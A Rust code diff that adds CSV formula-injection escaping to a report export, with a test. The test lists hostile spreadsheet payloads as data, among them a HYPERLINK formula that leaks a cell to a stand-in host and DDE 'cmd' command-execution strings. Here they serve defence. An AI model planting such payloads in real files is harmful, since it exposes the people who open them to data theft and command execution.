@@ -211,15 +211,25 @@ impl Answer {
         text
     }
 
-    /// The answer as CSV with full precision, so that it can be worked with.
+    /// The answer as CSV with full precision, so that it can be worked with. Words that a
+    /// spreadsheet would run are words there too.
     pub fn csv(&self) -> String {
         let (heading, rows) = self.rows();
         let mut writer = csv::Writer::from_writer(Vec::new());
         let all = std::iter::once(&heading).chain(&rows);
-        all.for_each(|row| writer.write_record(row).expect("writing to memory cannot fail"));
+        let cells = all.map(|row| row.iter().map(|cell| harmless(cell)).collect::<Vec<_>>());
+        cells.for_each(|row| writer.write_record(row).expect("writing to memory cannot fail"));
         let bytes = writer.into_inner().expect("writing to memory cannot fail");
         String::from_utf8(bytes).expect("text in, text out")
     }
+}
+
+/// A cell that a spreadsheet shows and does not run: names of organisations, services and teams are what
+/// people typed. Text that begins like a formula gets an apostrophe, as OWASP's "CSV Injection" has it;
+/// numbers stay numbers.
+fn harmless(cell: &str) -> String {
+    let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && cell.parse::<f64>().is_err();
+    if runs { format!("'{cell}") } else { cell.to_owned() }
 }
 
 fn row(f: &Figure, dimensions: &[String], more: &[String]) -> Vec<String> {
@@ -274,6 +284,30 @@ mod tests {
     fn numbers_are_written_without_noise() {
         let cases = [(0.0, "0"), (1.5, "1.5"), (0.1 + 0.2, "0.3"), (1e12, "1000000000000"), (-2.0, "-2")];
         cases.iter().for_each(|(x, text)| assert_eq!(plain(*x), *text));
+    }
+
+    #[test]
+    fn a_spreadsheet_runs_nothing_that_somebody_typed() {
+        let typed = [
+            "=HYPERLINK(\"https://other.example/\"&A1)",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0",
+            "-1+1|cmd",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+        ];
+        for words in typed {
+            let f = Figure::new("rate", "a book", words, -2.5).of(words, words).n(3);
+            let csv = Answer { figures: vec![f], notes: vec![] }.csv();
+            let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+            let cells: Vec<String> =
+                read.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+            assert_eq!(cells.iter().filter(|c| **c == format!("'{words}")).count(), 3, "{csv}");
+            let starts = |c: &&String| c.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+            let left: Vec<&String> = cells.iter().filter(starts).collect();
+            assert_eq!(left, ["-2.5"], "a number stays one, and nothing else begins like that");
+        }
     }
 
     #[test]
